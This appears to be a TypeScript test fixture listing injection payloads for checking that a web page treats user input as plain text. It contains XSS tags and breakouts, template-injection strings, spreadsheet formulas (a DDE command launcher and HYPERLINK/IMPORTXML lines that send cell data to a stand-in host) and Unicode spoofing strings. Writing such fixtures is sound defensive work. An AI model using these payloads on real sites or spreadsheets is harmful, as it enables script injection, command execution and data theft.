/** What somebody writes into a name, a class or a file who wants a page of ours to run it, show it wrongly or choke on it. */

const call = "globalThis.owned=1";

const tags = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"//`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href="javascript:${call}">x</math>`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="jav&#x09;ascript:${call}">x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<link rel=stylesheet href="javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="https://elsewhere.example/">`,
  `<style>@import "https://elsewhere.example/x.css";</style>`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<div style="background:url(javascript:${call})">`,
  `<div popover id=x onbeforetoggle=${call}>x</div>`,
  `<p onpointerover=${call} style="position:fixed;inset:0">x</p>`,
];

const breakouts = [
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `\`><img src=x onerror=${call}>`,
  `" onfocus="${call}" autofocus="`,
  `' onmouseover='${call}`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `&lt;img src=x onerror=${call}&gt;`,
  `%3Cimg%20src=x%20onerror=${call}%3E`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
];

const formulas = [
  '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1-1",
  "@SUM(1,1)",
  "\t=1+1",
  '=IMPORTXML(CONCAT("https://elsewhere.example/",A1),"//a")',
];

/** Without markup: they turn text around, hide it, or are no text at all. */
const disguises = [
  "\u202Enimda\u202C",
  "\u2067Ana\u2069",
  "A\u200Bn\u200Da\uFEFF",
  "An\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301a",
  "\u0130stanbul ı ſ",
  "\uD83D\uDE00".repeat(20),
  "__proto__",
  "constructor",
  "toString",
  "NaN",
  "null",
];

/** More than sixty texts; none of them may ever be anything but text. */
export const payloads: readonly string[] = [...tags, ...breakouts, ...formulas, ...disguises];
